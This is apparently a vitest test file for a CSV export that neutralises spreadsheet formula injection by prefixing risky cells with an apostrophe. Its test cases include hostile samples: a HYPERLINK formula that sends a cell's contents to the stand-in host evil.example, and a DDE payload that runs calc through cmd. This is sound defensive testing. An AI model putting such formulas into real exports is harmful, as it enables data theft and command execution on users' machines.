import { describe, expect, it } from 'vitest'
import { CSV_START, csvLine } from './csv'
import { parseCsv } from './csv-lab'

/** The cases of hostile/csv-and-text-cells.json: what goes in, and the text a spreadsheet reads back. */
const CASES: readonly [id: string, input: string, text: string][] = [
  ['PC01', '=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'],
  ['PC03', '-2+3', "'-2+3"],
  ['PC05', '@SUM(1)', "'@SUM(1)"],
  ['PC07', '\r=1', "'\r=1"],
  ['PC09', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['PC11', 'a,b', 'a,b'],
  ['PC13', 'a\nb', 'a\nb'],
  ['PC15', '中文', '中文'],
]

describe('a cell', () => {
  it.each(CASES)('%s is read back as text (T-25)', (_id, input, text) => {
    expect(parseCsv(csvLine(['before', input, 'behind']))).toEqual([['before', text, 'behind']])
  })
  it.each(['\t=1', '\n=1', '＝1', '＋1', '－1', '＠A1', '+1'])('%j is no formula either', (input) =>
    expect(parseCsv(csvLine([input]))[0]?.[0]).toBe(`'${input}`),
  )
  it.each(['say "hi"', ' edges ', 'a;b', '', 'a\r\nb', '"', '""'])('%j comes back as it was', (input) =>
    expect(parseCsv(csvLine(['x', input, 'y']))).toEqual([['x', input, 'y']]),
  )
  it('of a number keeps its minus, since it is no text', () =>
    expect(csvLine([-5, 1.5, true])).toBe('-5,1.5,true\r\n'))
})

it('quotes what must be quoted (PC01, PC11, PC13)', () => {
  expect(csvLine(['a,b'])).toBe('"a,b"\r\n')
  expect(csvLine(['a\nb'])).toBe('"a\nb"\r\n')
  expect(csvLine(['=A1&"x"'])).toBe('"\'=A1&""x"""\r\n')
})

it('begins with a mark of UTF-8 (PC15)', () => expect(CSV_START).toBe('\uFEFF'))
